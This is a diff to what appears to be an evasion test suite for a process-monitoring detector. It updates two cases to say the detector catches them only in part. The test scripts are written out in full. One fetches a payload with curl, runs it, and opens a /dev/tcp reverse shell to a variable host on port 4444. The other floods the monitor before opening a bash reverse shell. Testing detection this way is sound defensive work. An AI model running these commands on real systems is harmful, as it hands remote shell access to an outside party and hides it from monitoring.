@@ -14,8 +14,9 @@ export const TRAILS = evasions([
     prepare: prepared(),
     script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'exec $HOOD/x -i >& /dev/tcp/'$FAR'/4444 0>&1'`,
     hides: "dropped-file",
-    outcome: "caught",
-    because: "ancestors are kept by who forked, whoever has adopted the child",
+    outcome: "in part",
+    because:
+      "the orphan is told with its ancestors, whoever has adopted it; that what was downloaded became a shell at a connection was not told",
   },
   {
     id: "evasion.scattered-hunt",
@@ -52,8 +53,9 @@ export const TRAILS = evasions([
     prepare: prepared(),
     script: `${PROGRAM} flood 4 /bin/true & ${PROGRAM} flood 4 /bin/true & sleep 2; act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'; wait`,
     hides: "reverse-shell",
-    outcome: "caught",
-    because: "execs, forks and ends have the last eighth of the ring to themselves; opens are lost first",
+    outcome: "in part",
+    because:
+      "who floods is told within a second; the shell at a connection was not told beside half a million lost records",
   },
   {
     id: "evasion.mimicry",
